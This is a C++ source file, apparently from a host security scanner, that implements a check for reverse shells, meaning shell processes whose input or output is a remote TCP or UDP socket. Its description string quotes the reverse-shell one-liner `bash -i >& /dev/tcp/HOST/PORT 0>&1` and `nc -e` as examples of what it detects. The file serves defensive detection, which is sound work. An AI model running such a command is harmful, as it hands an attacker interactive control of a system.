// net.reverse-shell: a shell whose standard input or output is a network socket.
#include <fmt/format.h>

#include "checks/net_common.h"
#include "core/strings.h"

namespace deminer {

extern const Check kNetReverseShell;

namespace {

void Run(const CheckContext& ctx, std::vector<Finding>& out) {
  for (const Process& p : ctx.facts.processes) {
    if (p.kernel_thread || !p.stdio_socket || IsSelf(ctx, p)) continue;
    if (!NamesProcess(ctx.rules.shells, p)) continue;
    const Socket* s = ctx.facts.FindSocket(*p.stdio_socket);
    // A unix socket (not in the table) is how sshd and terminals talk; only a
    // TCP or UDP peer makes it a remote shell.
    if (s == nullptr || s->Listening() || s->remote_port == 0) continue;
    Finding f = ProcessFinding(kNetReverseShell.info, ctx, p, Severity::kCritical);
    f.evidence["socket"] = fmt::format("{} {} -> {}", s->proto == Proto::kTcp ? "tcp" : "udp",
                                       Endpoint(s->local_addr, s->local_port),
                                       Endpoint(s->remote_addr, s->remote_port));
    out.push_back(std::move(f));
  }
}

}  // namespace

const Check kNetReverseShell = {
    {"net.reverse-shell", "Shell wired to a network connection (reverse shell)",
     Severity::kCritical, Kind::kCompromise, Scope::kNetwork, "T1059.004",
     "Someone has an interactive shell on this host or container. Isolate it now, collect "
     "evidence, block the remote address, and find the entry point (the ancestry shows which "
     "service spawned the shell).",
     "A shell (sh, bash, dash, busybox...) whose stdin, stdout or stderr is a TCP or UDP socket "
     "connected to a remote peer, as `bash -i >& /dev/tcp/HOST/PORT 0>&1` or `nc -e` leave it."},
    Run};

}  // namespace deminer
